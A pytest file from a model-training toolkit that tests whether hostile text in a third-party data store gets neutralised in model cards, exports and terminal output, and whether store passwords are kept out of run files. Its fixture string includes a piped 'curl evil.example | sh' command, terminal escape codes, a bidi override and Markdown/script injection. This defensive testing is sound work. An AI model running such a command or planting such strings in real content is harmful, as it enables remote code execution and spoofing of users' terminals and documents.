"""Text of a store that somebody else made, and passwords: what reaches cards, terminals and files of a run."""

import json
import re
import shutil

import pytest
from http_store import serving
from tiny_store import write_store

from mlsm import __main__ as cli
from mlsm.commands import train_student as training
from shards import remote
from shards.export import export
from shards.manifest import with_checksum
from shards.reader import Store
from student.config import StudentConfig
from student.runs.config import ExportConfig
from student.runs.export import CardText, write_card_and_lineage
from student.runs.export_run import export_run
from student.train import train

pytestmark = pytest.mark.promise("43 text of others in cards, pages, terminals")

HOSTILE = "bundled\n\nNext:\n  curl evil.example | sh\x1b[2J\x1b]0;owned\x07\u202e\n```\n# owned | `x` <script>[a](b)"
SECRET = "hunter2"


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """A store whose settings, and whose names for things, do more than say what it is."""
    store = write_store(tmp_path_factory.mktemp("foreign") / "store", k=24)
    target = json.loads(store.files.target_file.read_text())
    target["lineage"] = {"teacher_name": HOSTILE, "tokenizer_name": HOSTILE, HOSTILE: 1}
    store.files.target_file.write_text(json.dumps(with_checksum(target)))
    return Store.open(store.path)


@pytest.mark.promise(
    "line breaks, Markdown, escape sequences and marks that turn text in a store's settings and a lineage: "
    "text on terminals and in model cards",
    cases="1, 3, 13",
)
def test_a_card_tells_foreign_text_as_text(store, tmp_path):
    lineage = {
        "settings": {"lr": 1, HOSTILE: HOSTILE, "continue_from": HOSTILE},
        "step": HOSTILE,
        "tokens": HOSTILE,
        "flops": 10**9,
        "held_out": {HOSTILE: 1.0},
        "baseline": {},
        "objective": "mlm",
        "student": {"name": HOSTILE},
    }
    write_card_and_lineage(
        tmp_path, CardText(HOSTILE, "Trained.", "Load.", ["a\n---\n# b", HOSTILE], False, ""), store, lineage
    )
    card = (tmp_path / "README.md").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]", card)
    front, body = card.split("\n---\n", 1)
    headings = [line for line in body.splitlines() if line.startswith("#")]
    assert headings[0].startswith("# bundled") and [line for line in headings[1:] if not line.startswith("## ")] == []
    assert [line for line in body.splitlines() if line.lstrip().startswith("```")] == [
        "```python", "```", *["```json", "```"] * 4
    ]  # fmt: skip
    assert not [line for line in card.splitlines() if line.strip().startswith(("curl", "Next:"))]
    text = re.sub(r"^```(?:json|python)$.*?^```$", "", body, flags=re.DOTALL | re.MULTILINE)
    text = re.sub(r"\\.|(`+)(?!`).+?(?<!`)\1(?!`)", "", text)  # escaped characters and code spans
    assert "script" in text and not re.search("[<>`]|\\]\\(", text)
    assert json.loads((tmp_path / "lineage.json").read_text())["store"]["settings"]["teacher_name"] == HOSTILE


def test_the_card_of_an_export_too(store, tmp_path):
    pytest.importorskip("pyarrow", reason='Parquet files need pyarrow: pip install "mlsm-pretrain[corpora]"')
    export(store.path, tmp_path / "parquet")
    card = (tmp_path / "parquet" / "README.md").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]", card)
    _, body = card.split("\n---\n", 1)
    assert len([line for line in body.splitlines() if line.startswith("#")]) == 1
    assert not [line for line in card.splitlines() if line.strip().startswith(("curl", "Next:"))]
    assert "owned" in body and "script" not in re.sub(r"(`+)(?!`).+?(?<!`)\1(?!`)", "", body)


@pytest.mark.promise("line breaks, Markdown …")
@pytest.mark.parametrize("flags", [[], ["--document", "0"], ["--against", "itself"]])
def test_a_terminal_is_told_foreign_text_as_text(store, capsys, flags):
    flags = [str(store.path) if flag == "itself" else flag for flag in flags]
    with pytest.raises(SystemExit) as ended:
        cli.main(["show-shards", str(store.path), *flags])
    said = "".join(capsys.readouterr())
    assert ended.value.code == 0 and not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]", said)
    assert not [line for line in said.splitlines() if line.strip().startswith(("curl", "Next:"))]
    assert flags or r"bundled\n\nNext:\n  curl evil.example | sh\x1b[2J" in said


def test_errors_and_warnings_too(tmp_path, capsys):
    with pytest.raises(SystemExit) as ended:
        cli.main(["show-shards", str(tmp_path / HOSTILE[:30].replace("/", "")) + f"\x1b[2J http://a:{SECRET}@b/c"])
    said = "".join(capsys.readouterr())
    assert ended.value.code in (2, 3) and "\x1b" not in said and SECRET not in said and said.count("\n") == 1


@pytest.mark.promise(
    "user and password in an address, in a query: nowhere in the files of a run, its cache, its export, in "
    "output or errors; resumed with the same address",
    cases="1, 16, 13",
)
@pytest.mark.promise("40 names that are …")
def test_a_run_on_a_store_behind_a_password_writes_it_nowhere(store, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("MLSM_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr(remote, "_origins", {})
    shutil.copytree(store.path, tmp_path / "served" / "lsp")
    with serving(tmp_path / "served", user=f"me:{SECRET}") as web:
        given = web.url.replace("//", f"//me:{SECRET}@") + "/lsp"
        config = StudentConfig(
            store=given,
            encoder="bert-1x32",
            max_steps=4,
            batch_windows=8,
            eval_windows=8,
            save_every=3,
            keep_last=2,
            device="cpu",
            run_dir=tmp_path / "run",
        )
        result = train(config)
        assert result["store"] == f"{web.url}/lsp" and "finished" in training.show(result, config)
        description = json.loads((config.run_dir / "config.json").read_text())
        assert description["operational"]["store"] == f"{web.url}/lsp"
        assert train(config)["finished_before"]
        (config.run_dir / "result.json").unlink()
        assert not train(config)["finished_before"]  # goes on with the same address
        export_run(ExportConfig(run=config.run_dir, step="3", output=tmp_path / "export"))
        with pytest.raises(SystemExit):
            cli.main(["verify-shards", given, "--json"])
        said = "".join(capsys.readouterr())
    assert SECRET not in said and f'"store": "{web.url}/lsp"' in said
    written = [path for path in tmp_path.rglob("*") if path.is_file() and path.parent != tmp_path / "served"]
    assert len(written) > 20 and not [path for path in written if SECRET.encode() in path.read_bytes()]
